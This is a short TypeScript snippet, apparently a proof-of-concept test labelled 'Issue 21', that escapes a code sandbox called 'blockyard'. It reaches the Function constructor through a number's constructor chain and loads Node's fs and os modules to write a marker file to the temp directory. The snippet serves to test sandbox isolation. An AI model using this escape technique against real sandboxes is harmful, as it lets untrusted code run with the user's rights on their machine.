// Issue 21: reaches Function through any value and writes a file with the user's rights.
const F = (0 as any).constructor.constructor
F("const fs = process.getBuiltinModule('fs'); const os = process.getBuiltinModule('os'); fs.writeFileSync(os.tmpdir() + '/blockyard-attack-written.txt', 'written by a program')")()
serial.writeLine("done")
